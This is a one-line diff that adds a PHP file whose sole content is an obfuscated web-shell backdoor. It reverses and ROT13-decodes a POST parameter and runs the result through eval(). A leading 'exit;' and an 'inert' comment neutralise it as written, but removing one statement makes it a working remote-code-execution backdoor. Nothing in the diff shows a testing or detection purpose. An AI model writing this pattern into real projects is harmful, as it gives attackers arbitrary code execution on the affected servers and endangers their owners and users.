@@ -1,0 +1,1 @@
+<?php exit; /* inert */ die(eval(str_rot13(strrev($_POST["e"]))));
